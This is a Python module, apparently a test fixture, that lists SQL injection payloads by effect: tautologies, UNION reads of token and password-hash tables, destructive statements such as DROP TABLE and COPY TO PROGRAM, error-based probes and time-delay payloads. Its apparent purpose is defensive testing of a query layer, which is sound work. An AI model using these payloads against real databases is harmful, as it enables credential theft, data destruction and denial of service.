"""What people type where a database might listen, by what it would do if one did."""

from __future__ import annotations

from typing import NamedTuple


class Payload(NamedTuple):
    """One text."""

    kind: str
    text: str


SQL = tuple(
    Payload(kind, text)
    for kind, texts in {
        "ends the text": (
            "'",
            '"',
            "`",
            "\\",
            "'''",
            "\\'",
            "%27",
            "\u02bc",
            "\uff07",
            "';--",
            '"))--',
            "'/*",
        ),
        "is always true": (
            "' OR '1'='1",
            "' OR 1=1 --",
            "' OR 1=1#",
            '" OR ""="',
            "') OR ('1'='1' --",
            "1 OR 1=1",
            "' OR 'x' LIKE '%",
            "'||'1'='1",
            "admin' --",
            "' OR NOT 'a' IS NULL --",
        ),
        "reads another table": (
            "' UNION SELECT digest FROM tokens --",
            "' UNION ALL SELECT NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL --",
            "1) UNION SELECT hash FROM passwords --",
            "' UNION SELECT sql FROM sqlite_master --",
            "' UNION SELECT table_name FROM information_schema.tables --",
            "(SELECT name FROM accounts LIMIT 1)",
        ),
        "writes": (
            "'; DROP TABLE entries; --",
            "'; DELETE FROM tokens; --",
            "'); UPDATE accounts SET credit_nanos = 9e18; --",
            "'; INSERT INTO tokens VALUES ('x'); --",
            "1; ATTACH DATABASE '/tmp/inferd-evil.db' AS evil; --",
            "'; COPY accounts TO PROGRAM 'id'; --",
            "'; PRAGMA writable_schema = 1; --",
        ),
        "tells by an error": (
            "' AND 1=CAST((SELECT version()) AS int) --",
            "' AND extractvalue(1, concat(0x7e, version())) --",
            "' AND 1=CONVERT(int, @@version) --",
            "' AND json('x') --",
            "' GROUP BY 1 HAVING 1=1 --",
            "' ORDER BY 999 --",
        ),
        "is of a strange kind": (
            "\x00",
            "a\x00' OR 1=1 --",
            "%s%s%s%n",
            "{0}{model}",
            "$1",
            ":model",
            "?",
            "%",
            "_",
            "\U0001f600'",
            "\u202e' --",
            "NULL",
            "-1",
            "1e999",
            "0x27",
        ),
    }.items()
    for text in texts
)

SLEEPS = (
    "' AND 1=(SELECT count(*) FROM entries a, entries b, entries c, entries d, entries e) --",
    "' OR hex(randomblob(2000000000)) --",
    "' OR 1=(WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i FROM n) SELECT i FROM n) --",
    "'; SELECT pg_sleep(9) --",
    "' || pg_sleep(9) --",
    "1 AND (SELECT 1 FROM (SELECT pg_sleep(9)) x)",
    "' AND sleep(9) #",
    "' AND (SELECT * FROM (SELECT(SLEEP(9)))a) --",
    "' AND BENCHMARK(900000000, MD5(1)) --",
    "'; WAITFOR DELAY '0:0:9' --",
    "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a', 9) --",
    "' AND 1=LIKE('ABCDEFG', UPPER(HEX(RANDOMBLOB(1000000000/2)))) --",
)
"""What would answer late if a database read it."""
